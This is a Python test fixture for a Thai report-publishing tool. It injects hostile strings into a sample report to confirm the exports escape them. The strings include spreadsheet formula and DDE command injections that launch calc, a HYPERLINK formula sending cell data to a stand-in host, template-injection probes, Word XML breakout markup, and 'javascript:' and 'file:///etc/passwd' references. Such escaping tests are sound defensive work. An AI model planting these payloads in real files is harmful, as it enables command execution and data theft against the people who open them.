"""A report whose every text tries to be something else: a formula, a tag of a template, markup, an escape."""

from __future__ import annotations

import copy
import shutil
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

import yaml

from ita_site.publish.check import load
from tests.builders.sites import SITES

if TYPE_CHECKING:
    from ita_site.catalogue.catalogue import Catalogue

WORDS: Final = [
    *(f"{first}HYPERLINK(1+1)" for first in "=+-@|%＝＋－＠｜％"),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"กด")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\tแท็บก่อน =1+1",
    "ก่อน\tกลาง\tท้าย\t",
    "-2+3\n=1+1\n@a",
    "{{ 7*7 }}",
    "{{ agency }}",
    "{%p for x in tables %}",
    "{% raw %}{{ a }}{% endraw %}",
    "{_{ agency }_} {_% if 1 %_} {__{ a",
    "{# หมายเหตุ #}",
    "{{r words }}{%tr endfor %}",
    "]]><w:p/>&amp;&#65;<b>ตัวหนา</b>",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\calc</w:instrText>",
    "_x0041_ \\a \\f \\n",
    "  เว้นหน้า  เว้นกลาง   เว้นท้าย  ",
    "๒๕๖7 ํา เเ ำ กำ่ ที่\u200bนี่ ก้ํา",
    "javascript:alert(1) file:///etc/passwd \\\\host\\share",
    "มาตรการ[:]*?/\\'ชื่อ",
    "ภาพ 😀 𠀀 ﷽",
    "'=1+1",
    "0012 1e5 2567-01-01 TRUE #N/A",
    "ก;=1+1;=HYPERLINK(1)",
    'ก"=1+1";"=1+1',
]
"""Each is a text of a measure; all of them must come out to the letter, and do nothing."""

LONG: Final = "=ยาว " * 9000
"""More than Excel holds in a cell."""

ADDRESSES: Final = [
    "http://x.example/a b?q=ก#ข".replace(" ", "%20"),
    "https://x.example/%E0%B8%81?a=1&b='\"=2".replace('"', "%22"),
    "HTTP://X.example/" + "a" * 1900,
]


def hostile(folder: Path, words: list[str] | None = None) -> Catalogue:
    """The catalogue of a copy of the small tree, with these texts everywhere that a measure has text."""
    root = _tree(folder, words or WORDS)
    reading = load(root)
    assert reading.catalogue is not None, [str(problem) for problem in reading.problems]
    return reading.catalogue


def _tree(folder: Path, words: list[str]) -> Path:

    root = Path(shutil.copytree(SITES / "small", folder / "content"))
    file = root / "reports/2567-12m/measures/two.md"
    fields: dict[str, Any] = yaml.load(file.read_text(encoding="utf-8").split("---")[1], yaml.BaseLoader)
    fields["activities"] = [{"number": str(at), "text": text} for at, text in enumerate(words, 1)]
    fields["results"] = [{"text": text, "lost_picture": "yes" if at == 3 else "no"} for at, text in enumerate(words)]
    fields["outcomes"] = [{"text": "ดู", "evidence": [{"url": url} for url in ADDRESSES]}]
    fields["outcomes"] += [copy.deepcopy({"text": text}) for text in words]
    fields["issue"]["text"] = "\n".join(words)
    file.write_text(f"---\n{yaml.safe_dump(fields, allow_unicode=True)}---\n", encoding="utf-8")
    return root
